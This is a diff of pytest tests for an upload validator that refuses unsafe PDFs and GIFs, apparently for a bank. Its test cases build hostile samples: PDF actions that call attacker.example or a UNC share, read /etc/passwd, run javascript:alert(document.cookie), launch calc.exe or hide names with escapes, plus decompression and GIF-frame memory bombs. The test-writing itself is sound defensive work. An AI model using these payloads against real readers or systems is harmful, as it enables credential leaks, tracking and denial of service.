@@ -197,3 +197,111 @@ def test_a_gif_frame_beyond_its_screen_is_malformed():
         with pytest.raises(FileRefused) as refused:
             check_file(oversized, "small.gif")
         assert refused.value.code == "malformed_file" and "beyond its screen" in str(refused.value)
+
+
+def _with_catalog(extra: bytes) -> bytes:
+    return pdf().replace(b"/OpenAction [3 0 R /Fit] ", extra)
+
+
+def _with_page(extra: bytes, objects: bytes = b"") -> bytes:
+    """pdf() with ``extra`` in its page's dictionary (annotations, additional actions) and ``objects``
+    written before its cross-reference (not listed there: readers find them by repair; enough here)."""
+    content = pdf().replace(b"/MediaBox [0 0 300 200] ", b"/MediaBox [0 0 300 200] " + extra)
+    return content.replace(b"xref\n", objects + b"xref\n", 1) if objects else content
+
+
+def _link(action: bytes) -> bytes:
+    return b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A " + action + b" >>] "
+
+
+@pytest.mark.parametrize("content", [
+    _with_page(b"/AA << /O << /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >> >> "),  # Bad-PDF
+    _with_catalog(b"/OpenAction << /S /GoToR /F (file:///etc/passwd) /D [0 /Fit] /NewWindow true >> "),
+    _with_catalog(b"/OpenAction << /S /URI /URI (javascript:alert(1)) >> "),
+    _with_catalog(b"/OpenAction << /S /URI /URI (https://attacker.example/opened) >> "),  # phones home as opened
+    _with_catalog(b"/OpenAction << /D [3 0 R /Fit] /S /GoTo /Next << /S /URI /URI (https://attacker.example/) >> >> "),
+    _with_catalog(b"/OpenAction 6 0 R ").replace(b"xref\n", b"6 0 obj\n<< /S /URI /URI (https://a.example/x) >>\nendobj\nxref\n", 1),
+    _with_page(b"/AA << /O << /S /URI /URI (file://attacker.example/share/x) >> >> "),
+    _with_page(b"/AA << /O << /S /Rendition /R << /C << /D << /FS /URL /F (http://attacker.example/track) >> >> >> >> >> "),
+    _with_page(_link(b"<< /S /URI /URI (  JavaScript:alert(document.cookie)) >>")),
+    _with_page(_link(b"<< /S /URI /URI <6a617661736372697074 3a616c657274283129> >>")),  # hex "javascript:alert(1)"
+    _with_page(_link(b"<< /S /URI /URI (\\\\\\\\attacker.example\\\\share) >>")),  # UNC
+    _with_page(_link(b"<< /S /G#6FToR /F (other.pdf) /D [0 /Fit] >>")),  # escaped /GoToR
+    _with_page(_link(b"<< /S /Launch /F (calc.exe) >>")),
+    _with_page(_link(b"<< /S /Named /N /Print >>")),
+    _with_page(_link(b"<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >>")),
+    _with_page(_link(b"<< /S /Thread /F (other.pdf) /D 0 >>")),
+    _hiding(b"<< /N 1 /First 4 /Filter /FlateDecode >>", zlib.compress(b"6 0 << /S /URI /URI (file:///c:/x) >>")),
+    _hiding(b"<< /N 1 /First 4 /Filter /FlateDecode >>", zlib.compress(b"6 0 << /S /GoToE /T << /R /C >> >>")),
+])
+def test_a_pdf_with_any_action_but_a_page_of_its_own_or_a_web_link_is_unsafe(content):
+    with pytest.raises(FileRefused) as refused:
+        check_file(content, "statement.pdf")
+    assert refused.value.code == "unsafe_file"
+
+
+@pytest.mark.parametrize("content", [
+    _with_page(_link(b"<< /S /URI /URI (https://bank.example/help/cards) >>")),
+    _with_page(_link(b"<< /S /URI /URI (mailto:help@bank.example) >>")),
+    _with_page(_link(b"<< /S /GoTo /D [3 0 R /Fit] >>")),
+    _with_catalog(b"/OpenAction << /S /GoTo /D [3 0 R /XYZ null null 0] >> "),
+    _with_catalog(b"/OpenAction 6 0 R ").replace(b"xref\n", b"6 0 obj\n[3 0 R /Fit]\nendobj\nxref\n", 1),
+])
+def test_a_pdf_with_web_links_or_opening_at_a_page_passes(content):
+    assert check_file(content, "statement.pdf").kind is FileKind.PDF
+
+
+def _object_stream_bomb(inflated: int) -> bytes:
+    """A PDF of a few kilobytes whose one object stream inflates, through two Flate passes, to ``inflated``
+    bytes of spaces (trial 16: 722 bytes to 60 MB held whole, +100 MB of the bridge's memory)."""
+    packer = zlib.compressobj(9)
+    once = b"".join(packer.compress(b" " * (1 << 20)) for _ in range(inflated >> 20)) + packer.flush()
+    return _hiding(b"<< /N 1 /First 4 /Filter [/FlateDecode /FlateDecode] >>", zlib.compress(once, 9))
+
+
+def test_a_pdf_whose_objects_inflate_hugely_is_read_a_piece_at_a_time_and_refused_past_the_cap():
+    import tracemalloc
+    small = _object_stream_bomb(48 << 20)
+    assert len(small) < 10_000
+    tracemalloc.start()
+    try:
+        assert check_file(small, "statement.pdf").kind is FileKind.PDF  # 48 MB of spaces: nothing to refuse
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert peak < 8 * (1 << 20), peak  # pieces of 1 MB, never the 48 MB
+    with pytest.raises(FileRefused) as refused:
+        check_file(_object_stream_bomb(80 << 20), "statement.pdf")
+    assert refused.value.code == "unsafe_file" and "inflate to more than 64 MB" in str(refused.value)
+
+
+def _gif_of_tiny_frames(width: int, height: int, frames: int) -> bytes:
+    """A GIF screen of ``width`` x ``height`` with ``frames`` frames of one pixel each: a few kilobytes
+    (trial 16: 6000 x 6000 with 300 frames, 7 KB, took an agent's browser tab to 550 MB)."""
+    frame = (b"\x21\xf9\x04\x00\x01\x00\x00\x00"  # graphic control: a delay
+             b"\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00"  # a 1 x 1 frame at the corner
+             b"\x02\x02\x44\x01\x00")  # its LZW data
+    return (b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
+            + frame * frames + b"\x3b")
+
+
+def test_an_animation_whose_frames_times_its_screen_pass_the_cap_is_refused():
+    assert check_file(_gif_of_tiny_frames(1000, 1000, 100)).kind is FileKind.GIF  # 100 megapixels in all
+    assert check_file(_gif_of_tiny_frames(6000, 6000, 1)).kind is FileKind.GIF  # one frame: the pixel cap's
+    with pytest.raises(FileRefused) as refused:
+        check_file(_gif_of_tiny_frames(6000, 6000, 300))
+    assert refused.value.code == "malformed_file" and "300 frames" in str(refused.value)
+    with pytest.raises(FileRefused, match="frames"):
+        check_file(_gif_of_tiny_frames(1000, 1000, 101))
+
+
+def test_short_names_in_a_pictures_bytes_are_not_taken_for_actions():
+    """``/AA`` and ``/URL`` turn up by chance in compressed data (a page stream here): refused only as
+    what they would do (additional actions before their dictionary, a URL file specification)."""
+    noise = b"\x93\x00/AA)\xff/URL]\x10/AA 7"
+    content = pdf().replace(b"(Statement of account) Tj ET", b"(Statement of account) Tj ET %" + noise)
+    content = content.replace(b"<< /Length 51 >>", b"<< /Length %d >>" % (51 + 2 + len(noise)))
+    assert check_file(content, "statement.pdf").kind is FileKind.PDF
+    for active in (b"/AA 9 0 R", b"/AA %note\n<<", b"/FS /URL"):
+        with pytest.raises(FileRefused):
+            check_file(content.replace(b"/Type /Catalog", b"/Type /Catalog " + active + (b" >>" if b"<<" in active else b"")))
